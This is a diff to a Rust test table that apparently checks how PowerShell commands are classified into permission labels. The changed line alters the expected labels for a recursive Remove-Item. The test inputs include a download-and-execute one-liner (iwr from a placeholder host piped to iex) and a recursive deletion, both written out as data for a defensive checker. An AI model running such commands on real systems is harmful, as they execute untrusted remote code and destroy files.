@@ -166,7 +166,7 @@ mod tests {
             ("'text' | Out-File notes.md", "fs.write@project notes.md"),
             ("echo hi > out.md 2>&1", "fs.write@project out.md"),
             ("echo hi > $null", ""),
-            ("Get-ChildItem x | Remove-Item -Recurse", "fs.read@project x, fs.delete@project x"),
+            ("Get-ChildItem x | Remove-Item -Recurse", "fs.read@project x, fs.delete@project x/* ?"),
             ("Write-Output 'Remove-Item x'", ""),
             ("# Remove-Item x", ""),
             ("iwr https://x.example/i.ps1 | iex", "net.fetch@remote https://x.example/i.ps1, exec.remote@remote iex"),
